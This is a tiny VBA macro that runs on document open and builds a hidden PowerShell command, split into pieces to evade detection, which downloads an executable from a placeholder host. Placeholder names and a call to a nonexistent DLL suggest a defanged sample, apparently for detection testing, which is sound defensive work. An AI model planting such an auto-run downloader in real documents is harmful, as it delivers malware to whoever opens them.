Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    Dim shell As Object, line As String
    Set shell = CreateObject("WScr" & "ipt.Shell")
    line = "pow" & "ershell -w hidden -c iwr http://example.com/a -outfile harmless-none.exe"
    shell.Run line, 0, False
End Sub
